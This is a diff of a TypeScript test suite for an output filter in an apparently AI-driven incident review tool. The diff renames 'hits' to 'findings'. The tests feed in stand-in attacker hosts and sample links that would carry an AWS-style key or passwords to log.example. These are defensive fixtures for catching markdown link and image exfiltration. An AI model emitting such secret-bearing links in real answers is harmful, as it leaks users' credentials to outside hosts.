@@ -10,7 +10,7 @@ import { contextWith, MODEL, SETTINGS } from './prompt-context.ts'
 
 const EVIL = { event: { message: 'Beacon to hxxps://cdn.evil[.]example/a.php and login.bad.example.' } }
 const review = (text: string) => buildPrompt(contextWith(EVIL), MODEL, SETTINGS).review(text)
-const kinds = (text: string) => review(text).hits.map(({ kind }) => kind)
+const kinds = (text: string) => review(text).findings.map(({ kind }) => kind)
 
 const LOADED = '<img src=https://img.example/a.png>'
 /** Where a renderer sees no code, however much it looks like some. */
@@ -73,11 +73,11 @@ t.test('[FILTER2] links are written out, and lead where they say', async (t) => 
 })
 
 t.test('[FILTER3] addresses of the incident can’t be opened', async (t) => {
-  const { content, hits } = review(
+  const { content, findings } = review(
     'It calls https://cdn.evil.example/a.php?x=1. Block [this](http://login.bad.example).',
   )
   t.equal(content, 'It calls `hxxps://cdn[.]evil[.]example/a.php?x=1`. Block this (`hxxp://login[.]bad[.]example`).')
-  t.match(hits, [
+  t.match(findings, [
     {
       kind: 'indicator_link',
       count: 2,
@@ -94,19 +94,19 @@ t.test('[FILTER3] addresses of the incident can’t be opened', async (t) => {
 
 t.test('[FILTER2] an image without words in a link keeps both addresses', async (t) => {
   const written = '[![](http://a.example/i.png)](http://b.example/p)'
-  const { text, hits } = filterAnswer(written, { eventTexts: '', secrets: [], fenceToken: '' })
+  const { text, findings } = filterAnswer(written, { eventTexts: '', secrets: [], fenceToken: '' })
   t.equal(text, '(http://a.example/i.png) (http://b.example/p)')
-  t.ok(hits.some(({ kind }) => kind === 'remote_image'))
+  t.ok(findings.some(({ kind }) => kind === 'remote_image'))
 })
 
 t.test('[FILTER3] a dot behind the host changes nothing', async (t) => {
-  const { text, hits } = filterAnswer('http://evil.example./p', {
+  const { text, findings } = filterAnswer('http://evil.example./p', {
     eventTexts: 'evil.example',
     secrets: [],
     fenceToken: '',
   })
   t.notMatch(text, 'http://')
-  t.match(hits, [{ kind: 'indicator_link' }])
+  t.match(findings, [{ kind: 'indicator_link' }])
 })
 
 t.test('[FILTER3] so can’t addresses that only some renderers open: www., ws: and wss:', async (t) => {
@@ -122,7 +122,7 @@ t.test('[FILTER3] so can’t addresses that only some renderers open: www., ws: 
   ] as const) {
     t.equal(written(text).text, shown)
     t.same(
-      written(text).hits.map(({ kind }) => kind),
+      written(text).findings.map(({ kind }) => kind),
       shown.includes('`') ? ['indicator_link'] : [],
       text,
     )
@@ -166,7 +166,7 @@ t.test('[FILTER4] code stays as it is, and so does what is only prose', async (t
     '~~~\n```\n<img>\n~~~\n\nthen ``a ` <b>`` and `x | <y>`',
   ]) {
     t.equal(review(text).content, text)
-    t.same(review(text).hits, [])
+    t.same(review(text).findings, [])
   }
 })
 
@@ -174,20 +174,20 @@ t.test('[FILTER5] a secret doesn’t leave in a link, and a fence’s mark isn�
   const context = contextWith({ question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
   const { turns, review: check, restore } = buildPrompt(context, MODEL, SETTINGS)
   const leaking = check(restore('[x](https://log.example/?k=[[KEY-1]]) and [[KEY-1]]'))
-  t.match(leaking, { content: /link left out.* and AKIA/, hits: [{ kind: 'secret_in_link' }] })
-  t.notMatch(JSON.stringify(leaking.hits), 'AKIA')
+  t.match(leaking, { content: /link left out.* and AKIA/, findings: [{ kind: 'secret_in_link' }] })
+  t.notMatch(JSON.stringify(leaking.findings), 'AKIA')
   for (const secret of ['Summer2025!', 'Summer2025密码', 'Rh2E)pFg.E78x', 'Corr3ct horse battery', 'Rh2E|pFg.E78x']) {
     const cut = filterAnswer(`See http://log.example/?p=${secret} now`, {
       eventTexts: '',
       secrets: [secret],
       fenceToken: '',
     })
-    t.match(cut, { text: /link left out/, hits: [{ kind: 'secret_in_link' }] }, `${secret} ends an address early`)
+    t.match(cut, { text: /link left out/, findings: [{ kind: 'secret_in_link' }] }, `${secret} ends an address early`)
   }
   const mark = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
   t.match(check(`The data <<<${mark} ev1 event says so.`), {
     content: 'The data ‹fence› ev1 event says so.',
-    hits: [{ kind: 'mark_repeated' }],
+    findings: [{ kind: 'mark_repeated' }],
   })
 })
 
@@ -227,7 +227,7 @@ t.test('[FILTER6] reasoning is plain text: its characters stay, and its addresse
   )
   t.equal(reviewReasoning('![x](https://log.example/?k=[[KEY-1]])').text, '![x]([link left out])')
   const mark = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
-  t.match(reviewReasoning(`<<<${mark} ev1`), { text: '‹fence› ev1', hits: [{ kind: 'mark_repeated' }] })
+  t.match(reviewReasoning(`<<<${mark} ev1`), { text: '‹fence› ev1', findings: [{ kind: 'mark_repeated' }] })
 })
 
 t.test('[FILTER7] while an answer is written, what would be loaded is broken up at every split', async (t) => {
@@ -287,9 +287,9 @@ t.test('[FILTER3] [FILTER5] hidden characters break neither an indicator nor a s
   const context = { eventTexts: 'evil.example', secrets: ['Tr0ub4dor&3'], fenceToken: '' }
   for (const hidden of ['\u200b', '\u00ad', '\u202e']) {
     const indicator = filterAnswer(markDeceptive(`http://ev${hidden}il.example/x`), context)
-    t.match(indicator.hits, [{ kind: 'indicator_link' }])
+    t.match(indicator.findings, [{ kind: 'indicator_link' }])
     const secret = filterAnswer(markDeceptive(`http://log.example/?p=Tr0ub${hidden}4dor&3`), context)
-    t.match(secret.hits, [{ kind: 'secret_in_link' }])
+    t.match(secret.findings, [{ kind: 'secret_in_link' }])
   }
 })
 
@@ -308,7 +308,7 @@ t.test('[FILTER4] [FILTER5] an address ends where Chinese text begins, and no wo
   for (const secret of ['密码Abc12345', '中Tr0ub4dor&3x', '中http://b.example/Tr0ub4dor&3x']) {
     t.match(filterAnswer(`http://log.example/?q=${secret}`, context), {
       text: /^`hxxp:..log\[\.\]example\/\?q=`/,
-      hits: [{ kind: 'unsafe_link' }],
+      findings: [{ kind: 'unsafe_link' }],
     })
   }
 })
